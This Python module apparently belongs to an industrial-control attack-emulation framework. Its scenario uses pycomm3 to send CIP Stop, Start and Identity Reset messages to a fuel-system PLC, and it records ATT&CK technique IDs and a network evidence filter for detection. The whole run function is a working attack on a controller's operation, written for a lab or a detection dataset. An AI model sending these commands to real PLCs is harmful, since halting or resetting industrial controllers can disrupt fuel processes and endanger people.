"""The fuel controller is stopped and reset over CIP."""

from __future__ import annotations

from pycomm3 import CIPDriver

from ..devices.cip_plc import RESET, START, STOP
from ..node import Node

TITLE = "CIP Stop, Start and Reset of the fuel controller by a new device"
TECHNIQUES = ("T0816", "T0858")
ORIGIN = "laptop"
ENTITIES = ("laptop", "plc-fuel")
EVIDENCE = "cip.sc in {0x05, 0x07} && ip.src == 10.20.1.99"

IDENTITY_CLASS, PROGRAM_CLASS = 0x01, 0x8E


def run(node: Node) -> None:
    """Program to stop and run, then the Identity object's reset, type 0."""
    with CIPDriver(node.peer("plc-fuel")) as driver:
        for service, target, data in (
            (STOP, PROGRAM_CLASS, b""),
            (START, PROGRAM_CLASS, b""),
            (RESET, IDENTITY_CLASS, b"\0"),
        ):
            driver.generic_message(
                service=service,
                class_code=target,
                instance=1,
                request_data=data,
                connected=False,
                unconnected_send=True,
            )
            node.pause(0.8)
